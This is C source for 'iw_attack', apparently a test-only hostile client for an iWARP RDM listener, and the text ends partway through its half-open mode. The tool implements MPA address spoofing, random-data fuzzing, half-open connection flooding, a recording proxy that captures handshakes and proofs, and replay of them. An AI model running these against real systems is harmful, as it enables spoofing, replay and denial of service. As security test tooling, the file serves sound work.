/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * iw_attack: a hostile client for an iwarp RDM listener, speaking raw MPA
 * over plain sockets (no libfabric, nothing of the provider linked in:
 * it depends on the wire format only). Test-only; see run-attack.
 *
 *   iw_attack [options] spoof HOST:PORT CLAIM_IP:CLAIM_PORT
 *	One MPA rev 2 Request (RFC 6581 enhanced: peer-to-peer, Write, Read
 *	and Send RTR offered, CRC) whose 32 octets of RDM private data claim
 *	the listening address CLAIM with a made-up instance; when the Reply
 *	accepts, the RTR it allows (zero-length Write, else Read, else Send)
 *	follows in an FPDU. Reports what came back. With -k KEY the Request
 *	carries a job-key auth block (prov/iwarp/iwarp_auth.h) with a fresh
 *	nonce before the RDM data, and an accepted Reply's auth block gives
 *	the target's nonce and proof, checked with KEY; the RTR is followed
 *	by our proof (HMAC-SHA256 under KEY), and the octets the target
 *	sends besides a Terminate are counted.
 *   iw_attack [options] garbage HOST:PORT[,HOST:PORT...] N
 *	N connections (dealt round robin over the targets) sending seeded
 *	random octets: pure noise, the MPA key then noise, a valid header
 *	with random private data, and "IWRD" with random fields, in turn.
 *   iw_attack [options] halfopen HOST:PORT[,HOST:PORT...] N SECONDS
 *	N connections that each send part of an MPA Request and hold it for
 *	SECONDS (the soft descriptor limit is raised to fit).
 *   iw_attack [options] record LISTEN_IP:PORT FILE SECONDS
 *	A recording proxy for ranks started with test/fault's iwpx_shim.so
 *	(IWPX_PROXY=LISTEN_IP:PORT): each client first sends "IWPX" + port +
 *	IPv4 address of its real destination; the proxy connects there and
 *	forwards both ways for at most SECONDS (or until SIGTERM), and
 *	appends every MPA Request it forwards to FILE, one line each, and
 *	then the first two FPDUs the client sent after it (its RTR and, on
 *	a keyed connection, its proof):
 *	  REQ to=IP:PORT claim=IP:PORT instance=0x... len=N pair=K hex=...
 *	  POST pair=K len=N hex=...
 *   iw_attack [options] replay HOST:PORT FILE
 *	Sends the request of FILE's first REQ line, as recorded, to HOST:PORT
 *	and reports the answer like spoof; an accepted Reply gets the POST
 *	of the same pair verbatim when FILE has one, else our RTR. -i
 *	INSTANCE changes the recorded instance first (a restart claim).
 *
 * Options: -b IP bind the source address (spoof, garbage, halfopen,
 * replay); -i INSTANCE the claimed instance (spoof; default a made-up
 * one; replay: see there); -k KEY the job key (spoof; a test's key, it
 * shows in ps); -s SEED (garbage; default 1); -w SECONDS to wait for answers
 * (default 10: a loaded machine may keep a busy rank from answering for
 * a few seconds); -a SECONDS to watch an accepted connection after the
 * RTR (default 2); -T SECONDS bound on the whole run (default 120).
 *
 * Every mode ends with one summary line on stdout,
 *	iw_attack MODE ...: answer=WORD (details)
 * WORD: REJECTED (an MPA Reply with R set), ACCEPTED (R clear), CLOSED,
 * RESET, SILENT (nothing within -w), TERMINATE (a Terminate instead of a
 * Reply); REFUSED or NOT-REFUSED (garbage: every connection was closed,
 * reset or rejected, or not); NONE-ACCEPTED or ACCEPTED (halfopen);
 * RECORDED (record). After an accepted keyed Reply (spoof -k, replay of
 * a POST) the details end "[keyed: theirs=T end=E extra=N]": T the
 * target's proof in its Reply, OK or BAD under -k, UNCHECKED without,
 * NONE if the Reply has none; E how the connection ended within -a
 * seconds: OPEN (it did not), CLOSED, RESET or TERMINATE; N the octets
 * that came besides a Terminate: data of the job. The exit status is 0 once the attack was carried
 * out, whatever the answer; 1 when it could not be (no connection, bad
 * file), 2 on a usage error.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/crypto.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/rand.h>

/* ---- wire constants (RFC 5044, RFC 6581, RFC 5040/5041; iwarp_rdm.h) */
#define KEY_REQ "MPA ID Req Frame"
#define KEY_REP "MPA ID Rep Frame"
#define KEY_LEN 16
#define HDR_LEN 20
#define MAX_PD 512
#define FLAG_M 0x80
#define FLAG_C 0x40
#define FLAG_R 0x20
#define FLAG_S 0x10
#define ENH_A 0x8000	/* IRD word: peer-to-peer */
#define ENH_B 0x4000	/* IRD word: Send RTR */
#define ENH_C 0x8000	/* ORD word: Write RTR */
#define ENH_D 0x4000	/* ORD word: Read RTR */
#define RDM_PD_LEN 32
#define RDM_MAGIC "IWRD"
#define RDM_VERSION 1
#define RDM_COLLISION 0x80
#define RDM_KEYREF 0x20	/* Reject: refused for the job key */
#define AUTH_PD_MAGIC "IWAK"
#define AUTH_MSG_MAGIC "IWAM"
#define AUTH_LABEL "iwarp auth 2"
#define AUTH_VERSION 2
#define AUTH_PD_LEN 24
#define AUTH_REPLY_LEN 56	/* with the responder's proof */
#define AUTH_NONCE_LEN 16
#define AUTH_MSG_LEN 40
#define AUTH_MAC_LEN 32
#define OP_WRITE 0
#define OP_READ_REQ 1
#define OP_SEND 3
#define OP_TERMINATE 7

static double wait_s = 10;
static double after_s = 2;
static double answer_s = -1;	/* Request sent -> first answer */
static const char *bind_ip;

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

static void put64(uint8_t *p, uint64_t v)
{
	put32(p, (uint32_t)(v >> 32));
	put32(p + 4, (uint32_t)v);
}

static uint16_t get16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static uint64_t get64(const uint8_t *p)
{
	uint64_t v = 0;
	int i;

	for (i = 0; i < 8; i++)
		v = v << 8 | p[i];
	return v;
}

/* CRC32c, bitwise (a handful of FPDUs) */
static uint32_t crc32c(const uint8_t *p, size_t len)
{
	uint32_t c = 0xffffffffu;
	int k;

	while (len--) {
		c ^= *p++;
		for (k = 0; k < 8; k++)
			c = c >> 1 ^ (0x82f63b78u & (0u - (c & 1)));
	}
	return ~c;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static uint64_t rng_state = 1;

static uint64_t rnd(void)
{
	uint64_t x = rng_state;

	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return rng_state = x;
}

static void die_usage(const char *why)
{
	fprintf(stderr, "iw_attack: %s\nusage: iw_attack [-b IP] [-i INSTANCE]"
		" [-k KEY] [-s SEED] [-w SECONDS] [-a SECONDS] [-T SECONDS] MODE "
		"ARGS\n"
		"  spoof HOST:PORT CLAIM_IP:CLAIM_PORT\n"
		"  garbage HOST:PORT[,HOST:PORT...] N\n"
		"  halfopen HOST:PORT[,HOST:PORT...] N SECONDS\n"
		"  record LISTEN_IP:PORT FILE SECONDS\n"
		"  replay HOST:PORT FILE\n", why);
	exit(2);
}

static int parse_addr(const char *s, struct sockaddr_in *a)
{
	char host[64];
	const char *colon = strrchr(s, ':');
	char *end;
	long port;

	if (!colon || (size_t)(colon - s) >= sizeof(host))
		return -1;
	memcpy(host, s, (size_t)(colon - s));
	host[colon - s] = 0;
	port = strtol(colon + 1, &end, 10);
	if (*end || port < 0 || port > 65535)
		return -1;
	memset(a, 0, sizeof(*a));
	a->sin_family = AF_INET;
	a->sin_port = htons((uint16_t)port);
	return inet_pton(AF_INET, host, &a->sin_addr) == 1 ? 0 : -1;
}

static const char *astr(const struct sockaddr_in *a)
{
	static char buf[4][48];
	static int i;
	char ip[INET_ADDRSTRLEN];

	i = (i + 1) % 4;
	inet_ntop(AF_INET, &a->sin_addr, ip, sizeof(ip));
	snprintf(buf[i], sizeof(buf[i]), "%s:%u", ip, ntohs(a->sin_port));
	return buf[i];
}

static int nonblock(int fd, bool on)
{
	int fl = fcntl(fd, F_GETFL);

	return fl < 0 ? -1 : fcntl(fd, F_SETFL, on ? fl | O_NONBLOCK :
					       fl & ~O_NONBLOCK);
}

/* A socket, bound to -b when given, non-blocking connect started. */
static int start_connect(const struct sockaddr_in *to)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;

	if (fd < 0)
		return -1;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (bind_ip) {
		struct sockaddr_in b = { .sin_family = AF_INET };

		if (inet_pton(AF_INET, bind_ip, &b.sin_addr) != 1 ||
		    bind(fd, (struct sockaddr *)&b, sizeof(b))) {
			fprintf(stderr, "iw_attack: bind %s: %s\n", bind_ip,
				strerror(errno));
			close(fd);
			return -1;
		}
	}
	nonblock(fd, true);
	if (connect(fd, (const struct sockaddr *)to, sizeof(*to)) &&
	    errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

static int connect_done(int fd)
{
	int err = 0;
	socklen_t len = sizeof(err);

	if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len))
		return -errno;
	return -err;
}

/* A blocking connected socket, or -1 after at most wait_s seconds. */
static int dial(const struct sockaddr_in *to)
{
	int fd = start_connect(to);
	struct pollfd p;

	if (fd < 0)
		return -1;
	p.fd = fd;
	p.events = POLLOUT;
	if (poll(&p, 1, (int)(wait_s * 1000)) != 1 || connect_done(fd)) {
		close(fd);
		return -1;
	}
	nonblock(fd, false);
	return fd;
}

static int send_all(int fd, const uint8_t *p, size_t len)
{
	while (len) {
		ssize_t n = send(fd, p, len, MSG_NOSIGNAL);

		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return -1;
		p += n;
		len -= (size_t)n;
	}
	return 0;
}

/* Reads exactly len octets before the deadline: 1 done, 0 closed first
 * (*got says how much came), -1 reset/error, -2 deadline. */
static int read_full(int fd, uint8_t *p, size_t len, double deadline,
		     size_t *got)
{
	*got = 0;
	while (*got < len) {
		struct pollfd pf = { .fd = fd, .events = POLLIN };
		double left = deadline - now_s();
		ssize_t n;

		if (left <= 0)
			return -2;
		if (poll(&pf, 1, (int)(left * 1000) + 1) == 0)
			return -2;
		n = recv(fd, p + *got, len - *got, 0);
		if (n == 0)
			return 0;
		if (n < 0) {
			if (errno == EINTR || errno == EAGAIN)
				continue;
			return -1;
		}
		*got += (size_t)n;
	}
	return 1;
}

/* ---- MPA Request with RDM private data */

static void rdm_pd(uint8_t *p, uint8_t version, const struct sockaddr_in *a,
		   uint64_t instance)
{
	memset(p, 0, RDM_PD_LEN);
	memcpy(p, RDM_MAGIC, 4);
	p[4] = version;
	p[5] = 4;
	memcpy(p + 6, &a->sin_port, 2);
	memcpy(p + 8, &a->sin_addr, 4);
	put64(p + 24, instance);
}

/* Rev 2 enhanced Request, CRC, p2p, every RTR offered, with pd. */
static size_t mpa_request(uint8_t *buf, const uint8_t *pd, size_t pd_len)
{
	memcpy(buf, KEY_REQ, KEY_LEN);
	buf[16] = FLAG_C | FLAG_S;
	buf[17] = 2;
	put16(buf + 18, (uint16_t)(4 + pd_len));
	put16(buf + 20, ENH_A | ENH_B | 16);
	put16(buf + 22, ENH_C | ENH_D | 16);
	memcpy(buf + 24, pd, pd_len);
	return 24 + pd_len;
}

/* One FPDU around ulpdu (len octets), CRC when crc. */
static size_t fpdu(uint8_t *out, const uint8_t *ulpdu, size_t len, bool crc)
{
	size_t n = 2 + len, pad = (4 - n % 4) % 4;
	uint32_t c;

	put16(out, (uint16_t)len);
	memcpy(out + 2, ulpdu, len);
	memset(out + n, 0, pad);
	n += pad;
	c = crc ? crc32c(out, n) : 0;
	out[n] = (uint8_t)c;	/* the MPA trailer is little-endian */
	out[n + 1] = (uint8_t)(c >> 8);
	out[n + 2] = (uint8_t)(c >> 16);
	out[n + 3] = (uint8_t)(c >> 24);
	return n + 4;
}

/* The zero-length RTR of RFC 6581 §7 of kind 'W', 'R' or 'S'. */
static size_t rtr_fpdu(uint8_t *out, char kind, bool crc)
{
	uint8_t u[18 + 28];
	size_t len;

	memset(u, 0, sizeof(u));
	if (kind == 'W') {		/* tagged, STag 0, TO 0 */
		u[0] = 0x80 | 0x40 | 0x01;
		u[1] = 0x40 | OP_WRITE;
		len = 14;
	} else if (kind == 'R') {	/* untagged QN 1, MSN 1, 0 octets */
		u[0] = 0x40 | 0x01;
		u[1] = 0x40 | OP_READ_REQ;
		put32(u + 6, 1);
		put32(u + 10, 1);
		len = 18 + 28;
	} else {			/* Send: QN 0, MSN 1 */
		u[0] = 0x40 | 0x01;
		u[1] = 0x40 | OP_SEND;
		put32(u + 10, 1);
		len = 18;
	}
	return fpdu(out, u, len, crc);
}

/* What follows an accepted Reply and our RTR, within wait_s: text. */
static void after_rtr(int fd, char *what, size_t cap)
{
	uint8_t b[4096];
	double deadline = now_s() + after_s;
	size_t have = 0;

	for (;;) {
		struct pollfd pf = { .fd = fd, .events = POLLIN };
		double left = deadline - now_s();
		ssize_t n;

		if (left <= 0 || poll(&pf, 1, (int)(left * 1000) + 1) == 0) {
			snprintf(what, cap, "%zu octets came, the connection "
				 "stayed open for %.0f s", have, after_s);
			return;
		}
		n = recv(fd, have < sizeof(b) ? b + have : b,
			 have < sizeof(b) ? sizeof(b) - have : sizeof(b), 0);
		if (n < 0 && (errno == EINTR || errno == EAGAIN))
			continue;
		if (n <= 0) {
			snprintf(what, cap, "%zu octets came, then the target "
				 "%s", have, n ? "reset the connection" :
						"closed the connection");
			return;
		}
		if (!have && n >= 4 && (b[3] & 0x0f) == OP_TERMINATE) {
			/* untagged DDP header, then layer/type, code */
			if (n >= 2 + 18 + 2)
				snprintf(what, cap, "the target sent a "
					 "Terminate (layer %u, type %u, code "
					 "0x%02x)", b[20] >> 4, b[20] & 0x0f,
					 b[21]);
			else
				snprintf(what, cap, "the target sent a "
					 "Terminate (%zd octets)", n);
			return;
		}
		have += (size_t)n;
	}
}

/* ---- job keys (prov/iwarp/iwarp_auth.h): the auth block and proof */

static const char *auth_key;	/* -k: the key our proof is made with */
static uint8_t nonce_i[AUTH_NONCE_LEN], nonce_r[AUTH_NONCE_LEN];
static uint8_t proof_r[AUTH_MAC_LEN];	/* the Reply's */

/* Our auth block with a fresh nonce_I, in front of the RDM data. */
static void auth_pd(uint8_t *p)
{
	memset(p, 0, AUTH_PD_LEN);
	memcpy(p, AUTH_PD_MAGIC, 4);
	p[4] = AUTH_VERSION;
	if (RAND_bytes(nonce_i, AUTH_NONCE_LEN) != 1) {
		fprintf(stderr, "iw_attack: no random octets for a nonce\n");
		exit(1);
	}
	memcpy(p + 8, nonce_i, AUTH_NONCE_LEN);
}

/* HMAC-SHA256(key, "iwarp auth 2" | role | nonce_I | nonce_R) */
static void auth_mac(uint8_t *mac, uint8_t role)
{
	uint8_t in[sizeof(AUTH_LABEL) + 2 * AUTH_NONCE_LEN];
	size_t n = sizeof(AUTH_LABEL) - 1;
	unsigned int len = AUTH_MAC_LEN;

	memcpy(in, AUTH_LABEL, n);
	in[n++] = role;
	memcpy(in + n, nonce_i, AUTH_NONCE_LEN);
	memcpy(in + n + AUTH_NONCE_LEN, nonce_r, AUTH_NONCE_LEN);
	n += 2 * AUTH_NONCE_LEN;
	if (!HMAC(EVP_sha256(), auth_key, (int)strlen(auth_key), in, n, mac,
		  &len) || len != AUTH_MAC_LEN) {
		fprintf(stderr, "iw_attack: HMAC failed\n");
		exit(1);
	}
}

/* Our proof, the initiator's first message: a Send of QN 0, MSN 1 (a
 * zero-length Write or Send RTR takes no MSN). */
static size_t proof_fpdu(uint8_t *out, bool crc)
{
	uint8_t u[18 + AUTH_MSG_LEN];

	memset(u, 0, sizeof(u));
	u[0] = 0x40 | 0x01;
	u[1] = 0x40 | OP_SEND;
	put32(u + 10, 1);
	memcpy(u + 18, AUTH_MSG_MAGIC, 4);
	u[18 + 4] = AUTH_VERSION;
	u[18 + 5] = 'I';
	auth_mac(u + 18 + 8, 'I');
	return fpdu(out, u, sizeof(u), crc);
}

/* The target's proof in its Reply: OK, BAD, or UNCHECKED without -k */
static const char *proof_check(void)
{
	uint8_t mac[AUTH_MAC_LEN];

	if (!auth_key)
		return "UNCHECKED";
	auth_mac(mac, 'R');
	return CRYPTO_memcmp(mac, proof_r, AUTH_MAC_LEN) ? "BAD" : "OK";
}

/* ---- what an MPA Reply says */

struct reply {
	uint8_t b[HDR_LEN + MAX_PD];
	size_t pd_len;
	bool rejected, crc, auth;	/* auth: an auth block with a proof */
	char rtr;			/* the RTR it allows: W, R, S or 0 */
	char detail[240];
};

/* Reads a whole Reply; 0, else the answer is written. */
static int reply_read(int fd, struct reply *r, char *answer, size_t cap)
{
	double deadline = now_s() + wait_s, t_sent = now_s();
	size_t got;
	int ret = read_full(fd, r->b, HDR_LEN, deadline, &got);

	answer_s = now_s() - t_sent;
	if (ret != 1) {
		if (got >= 4 && (r->b[3] & 0x0f) == OP_TERMINATE)
			snprintf(answer, cap, "TERMINATE (%zu octets, no Reply)",
				 got);
		else if (ret == 0)
			snprintf(answer, cap, "CLOSED (the target closed the "
				 "connection after %zu octets, no Reply)", got);
		else if (ret == -1)
			snprintf(answer, cap, "RESET (%s after %zu octets)",
				 strerror(errno), got);
		else
			snprintf(answer, cap, "SILENT (%zu octets in %.0f s, "
				 "no Reply)", got, wait_s);
		return -1;
	}
	if (memcmp(r->b, KEY_REP, KEY_LEN)) {
		snprintf(answer, cap, "%s (20 octets that are no MPA Reply)",
			 (r->b[3] & 0x0f) == OP_TERMINATE ? "TERMINATE" :
							    "CLOSED");
		return -1;
	}
	r->pd_len = get16(r->b + 18);
	if (r->pd_len > MAX_PD ||
	    read_full(fd, r->b + HDR_LEN, r->pd_len, deadline, &got) != 1) {
		snprintf(answer, cap, "CLOSED (a Reply header announcing %zu "
			 "octets of private data, %zu came)", r->pd_len, got);
		return -1;
	}
	return 0;
}

/* The RDM data's version octet, its flags named */
static int rdm_flags(char *s, size_t cap, uint8_t v)
{
	return snprintf(s, cap, ", RDM data version 0x%02x%s%s", v,
			v & RDM_COLLISION ? " (collision)" : "",
			v & RDM_KEYREF ? " (refused for the job key: flag "
					 "0x20)" : "");
}

/* Fills r->detail, r->rtr, r->auth and nonce_r from the Reply. */
static void reply_parse(struct reply *r)
{
	const uint8_t *pd = r->b + HDR_LEN;
	size_t n = r->pd_len, cap = sizeof(r->detail);
	int l;

	r->rejected = r->b[16] & FLAG_R;
	r->crc = r->b[16] & FLAG_C;
	r->rtr = 0;
	l = snprintf(r->detail, cap, "MPA Reply rev %u, R %d, C %d, %zu "
		     "octets of private data", r->b[17], r->rejected, r->crc,
		     r->pd_len);
	if ((r->b[16] & FLAG_S) && n >= 4) {
		uint16_t ird = get16(pd), ord = get16(pd + 2);

		r->rtr = ord & ENH_C ? 'W' : ord & ENH_D ? 'R' :
			 ird & ENH_B ? 'S' : 0;
		pd += 4;
		n -= 4;
	}
	r->auth = n >= AUTH_REPLY_LEN && !memcmp(pd, AUTH_PD_MAGIC, 4) &&
		  pd[4] == AUTH_VERSION;
	if (r->auth) {
		memcpy(nonce_r, pd + 8, AUTH_NONCE_LEN);
		memcpy(proof_r, pd + AUTH_PD_LEN, AUTH_MAC_LEN);
		l += snprintf(r->detail + l, cap - (size_t)l, ", an auth "
			      "block (the target's nonce and proof)");
		pd += AUTH_REPLY_LEN;
		n -= AUTH_REPLY_LEN;
	}
	if (n >= RDM_PD_LEN && !memcmp(pd, RDM_MAGIC, 4))
		rdm_flags(r->detail + l, cap - (size_t)l, pd[4]);
	else if (n)
		snprintf(r->detail + l, cap - (size_t)l, ", not RDM data");
}

/* ---- after an accepted keyed Reply: the proofs, then what comes */

struct watch {
	const char *theirs;	/* their proof: OK, BAD, UNCHECKED, NONE */
	const char *end;	/* OPEN, CLOSED, RESET, TERMINATE */
	char term[64];
	size_t extra;		/* octets other than a Terminate */
};

static size_t fpdu_total(size_t ulen)
{
	return 2 + ulen + (4 - (2 + ulen) % 4) % 4 + 4;
}

/* One whole FPDU p from the target, sorted into w. */
static void watch_fpdu(struct watch *w, const uint8_t *p, size_t total)
{
	size_t ulen = get16(p);
	uint8_t op = p[3] & 0x0f;
	bool untagged = !(p[2] & 0x80);

	if (untagged && op == OP_TERMINATE && ulen >= 20) {
		w->end = "TERMINATE";
		snprintf(w->term, sizeof(w->term), " (layer %u, type %u, "
			 "code 0x%02x)", p[20] >> 4, p[20] & 0x0f, p[21]);
		return;
	}
	w->extra += total;
}

/* Reads FPDUs for after_s seconds, or until the target ends it. */
static void watch_keyed(int fd, const struct reply *r, struct watch *w)
{
	uint8_t b[8192];
	double deadline = now_s() + after_s;
	size_t have = 0, t;

	*w = (struct watch){ .theirs = r->auth ? proof_check() : "NONE",
			     .end = "OPEN" };
	while (strcmp(w->end, "TERMINATE")) {
		struct pollfd pf = { .fd = fd, .events = POLLIN };
		double left = deadline - now_s();
		ssize_t n;

		if (left <= 0 || poll(&pf, 1, (int)(left * 1000) + 1) == 0)
			break;
		n = recv(fd, b + have, sizeof(b) - have, 0);
		if (n < 0 && (errno == EINTR || errno == EAGAIN))
			continue;
		if (n <= 0) {
			w->end = n ? "RESET" : "CLOSED";
			break;
		}
		have += (size_t)n;
		while (have >= 2 && (t = fpdu_total(get16(b))) <= have) {
			watch_fpdu(w, b, t);
			memmove(b, b + t, have - t);
			have -= t;
		}
		if (have == sizeof(b)) {	/* no FPDU: count it all */
			w->extra += have;
			have = 0;
		}
	}
	w->extra += have;
}

/* Sends the RTR and our proof (or the recorded post), then watches. */
static void keyed_after(int fd, const struct reply *r, const uint8_t *post,
			size_t post_len, char *answer, size_t cap)
{
	uint8_t out[256];
	size_t len = 0;
	struct watch w;
	const char *sent = "the recorded RTR and proof sent";

	if (!post) {
		len = rtr_fpdu(out, r->rtr, r->crc);
		if (auth_key && r->auth)
			len += proof_fpdu(out + len, r->crc);
		sent = auth_key && r->auth ? "RTR and our proof sent" :
			"RTR sent, no proof (no auth block in the Reply)";
		post = out;
		post_len = len;
	}
	if (send_all(fd, post, post_len)) {
		snprintf(answer, cap, "ACCEPTED (%s; the RTR could not be "
			 "sent) [keyed: theirs=NONE end=RESET extra=0]",
			 r->detail);
		return;
	}
	watch_keyed(fd, r, &w);
	snprintf(answer, cap, "ACCEPTED (%s; %s; then %s%s, %zu octets "
		 "beyond the handshake) [keyed: theirs=%s end=%s extra=%zu]",
		 r->detail, sent, w.end, w.term, w.extra, w.theirs, w.end,
		 w.extra);
}

/*
 * Sends req (a whole MPA Request) on fd and reads the answer; on an
 * accepted Reply sends the RTR it allows, our proof with -k, or post
 * (a recorded RTR and proof). Writes "WORD (details)".
 */
static void exchange(int fd, const uint8_t *req, size_t req_len,
		     const uint8_t *post, size_t post_len, char *answer,
		     size_t cap)
{
	struct reply r;
	uint8_t out[128];
	char after[160];

	if (send_all(fd, req, req_len)) {
		snprintf(answer, cap, "RESET (the Request could not be sent: "
			 "%s)", strerror(errno));
		return;
	}
	if (reply_read(fd, &r, answer, cap))
		return;
	reply_parse(&r);
	if (r.rejected) {
		snprintf(answer, cap, "REJECTED (%s)", r.detail);
		return;
	}
	if (!r.rtr) {
		snprintf(answer, cap, "ACCEPTED (%s; no RTR allowed, none "
			 "sent)", r.detail);
		return;
	}
	if (post || auth_key) {
		keyed_after(fd, &r, post, post_len, answer, cap);
		return;
	}
	if (send_all(fd, out, rtr_fpdu(out, r.rtr, r.crc))) {
		snprintf(answer, cap, "ACCEPTED (%s; the RTR could not be sent)",
			 r.detail);
		return;
	}
	after_rtr(fd, after, sizeof(after));
	snprintf(answer, cap, "ACCEPTED (%s; %s RTR sent; then %s)", r.detail,
		 r.rtr == 'W' ? "Write" : r.rtr == 'R' ? "Read" : "Send",
		 after);
}

static const char *local_name(int fd)
{
	struct sockaddr_in a;
	socklen_t len = sizeof(a);

	memset(&a, 0, sizeof(a));
	getsockname(fd, (struct sockaddr *)&a, &len);
	return astr(&a);
}

/* ---- modes */

static int do_spoof(const char *target, const char *claim, uint64_t inst)
{
	struct sockaddr_in to, cl;
	uint8_t pd[AUTH_PD_LEN + RDM_PD_LEN];
	uint8_t req[HDR_LEN + 4 + sizeof(pd)];
	size_t off = auth_key ? AUTH_PD_LEN : 0;
	char answer[768];
	size_t len;
	int fd;

	if (parse_addr(target, &to) || parse_addr(claim, &cl))
		die_usage("spoof: bad address");
	fd = dial(&to);
	if (fd < 0) {
		printf("iw_attack spoof to %s: answer=NOCONNECT (%s)\n",
		       target, strerror(errno));
		return 1;
	}
	if (auth_key)		/* a proper block, made before the key */
		auth_pd(pd);
	rdm_pd(pd + off, RDM_VERSION, &cl, inst);
	len = mpa_request(req, pd, off + RDM_PD_LEN);
	exchange(fd, req, len, NULL, 0, answer, sizeof(answer));
	printf("iw_attack spoof from %s to %s claiming %s instance "
	       "0x%016" PRIx64 "%s, answered in %.2f s: answer=%s\n",
	       local_name(fd), astr(&to), astr(&cl), inst,
	       auth_key ? " with an auth block and a key" : "", answer_s,
	       answer);
	close(fd);
	return 0;
}

static int parse_targets(char *list, struct sockaddr_in *t, int max)
{
	int n = 0;
	char *s, *save = NULL;

	for (s = strtok_r(list, ",", &save); s; s = strtok_r(NULL, ",", &save)) {
		if (n == max || parse_addr(s, &t[n]))
			return -1;
		n++;
	}
	return n;
}

static void raise_nofile(long want)
{
	struct rlimit r;

	if (getrlimit(RLIMIT_NOFILE, &r))
		return;
	if (r.rlim_cur < (rlim_t)want) {
		r.rlim_cur = r.rlim_max == RLIM_INFINITY ||
			     r.rlim_max > (rlim_t)want ? (rlim_t)want :
							 r.rlim_max;
		setrlimit(RLIMIT_NOFILE, &r);
	}
}

enum { C_OPEN, C_CLOSED, C_RESET, C_REJECTED, C_ACCEPTED, C_DATA, C_FAIL };

/* Classifies what arrived on fd so far (it is readable) */
static int classify(int fd, uint8_t *buf, size_t *have, size_t cap)
{
	ssize_t n = recv(fd, buf + *have, cap - *have, MSG_DONTWAIT);

	if (n < 0 && (errno == EAGAIN || errno == EINTR))
		return C_OPEN;
	if (n < 0)
		return C_RESET;
	if (n == 0)
		return *have >= HDR_LEN && !memcmp(buf, KEY_REP, KEY_LEN) ?
			       (buf[16] & FLAG_R ? C_REJECTED : C_ACCEPTED) :
			       *have ? C_DATA : C_CLOSED;
	*have += (size_t)n;
	if (*have >= HDR_LEN && !memcmp(buf, KEY_REP, KEY_LEN))
		return buf[16] & FLAG_R ? C_REJECTED : C_ACCEPTED;
	if (*have >= KEY_LEN || *have == cap)
		return C_DATA;
	return C_OPEN;
}

static int do_garbage(char *list, long n)
{
	struct sockaddr_in t[64];
	int nt = parse_targets(list, t, 64), *fd, *st, count[7] = { 0 };
	uint8_t (*rx)[64];
	size_t *have;
	double deadline;
	long i, open;

	if (nt <= 0 || n < 1 || n > 10000)
		die_usage("garbage: bad targets or N (1..10000)");
	raise_nofile(n + 64);
	fd = calloc((size_t)n, sizeof(*fd));
	st = calloc((size_t)n, sizeof(*st));
	have = calloc((size_t)n, sizeof(*have));
	rx = calloc((size_t)n, sizeof(*rx));
	if (!fd || !st || !have || !rx)
		return 1;
	for (i = 0; i < n; i++) {
		uint8_t b[1024];
		size_t len, j, pdl;

		fd[i] = dial(&t[i % nt]);
		if (fd[i] < 0) {
			st[i] = C_FAIL;
			continue;
		}
		switch (i % 4) {
		case 0:		/* noise */
			len = 1 + rnd() % 600;
			for (j = 0; j < len; j++)
				b[j] = (uint8_t)rnd();
			break;
		case 1:		/* the key, then noise */
			len = KEY_LEN + 4 + rnd() % 300;
			memcpy(b, KEY_REQ, KEY_LEN);
			for (j = KEY_LEN; j < len; j++)
				b[j] = (uint8_t)rnd();
			break;
		case 2:		/* a good header, random private data */
			pdl = rnd() % 200;
			for (j = 0; j < pdl; j++)
				b[100 + j] = (uint8_t)rnd();
			len = mpa_request(b, b + 100, pdl);
			break;
		default:	/* "IWRD" with random fields */
			for (j = 0; j < RDM_PD_LEN; j++)
				b[200 + j] = (uint8_t)rnd();
			memcpy(b + 200, RDM_MAGIC, 4);
			if (rnd() % 2)
				b[204] = RDM_VERSION;
			len = mpa_request(b, b + 200, RDM_PD_LEN);
			break;
		}
		nonblock(fd[i], true);
		send(fd[i], b, len, MSG_NOSIGNAL);	/* best effort */
	}
	/* wait for every connection's fate */
	deadline = now_s() + wait_s;
	do {
		struct pollfd *p = calloc((size_t)n, sizeof(*p));
		long k = 0, *idx = calloc((size_t)n, sizeof(*idx));

		if (!p || !idx)
			return 1;
		for (i = 0; i < n; i++)
			if (st[i] == C_OPEN) {
				p[k].fd = fd[i];
				p[k].events = POLLIN;
				idx[k++] = i;
			}
		if (k && poll(p, (nfds_t)k, 100) > 0)
			for (i = 0; i < k; i++)
				if (p[i].revents)
					st[idx[i]] = classify(
						fd[idx[i]], rx[idx[i]],
						&have[idx[i]], sizeof(rx[0]));
		free(p);
		free(idx);
		for (open = 0, i = 0; i < n; i++)
			open += st[i] == C_OPEN;
	} while (open && now_s() < deadline);
	for (i = 0; i < n; i++) {
		count[st[i]]++;
		if (fd[i] >= 0)
			close(fd[i]);
	}
	printf("iw_attack garbage to %s%s: %ld connections, %d closed by the "
	       "target, %d reset, %d rejected with an MPA Reply, %d accepted, "
	       "%d answered with other data, %d still open after %.0f s, %d "
	       "failed to connect: answer=%s\n", astr(&t[0]),
	       nt > 1 ? " and more" : "", n, count[C_CLOSED], count[C_RESET],
	       count[C_REJECTED], count[C_ACCEPTED], count[C_DATA],
	       count[C_OPEN], wait_s, count[C_FAIL],
	       count[C_FAIL] == n ? "NOCONNECT" :
	       count[C_OPEN] || count[C_ACCEPTED] || count[C_DATA] ?
				    "NOT-REFUSED" : "REFUSED");
	return count[C_FAIL] == n;
}

static int do_halfopen(char *list, long n, double secs)
{
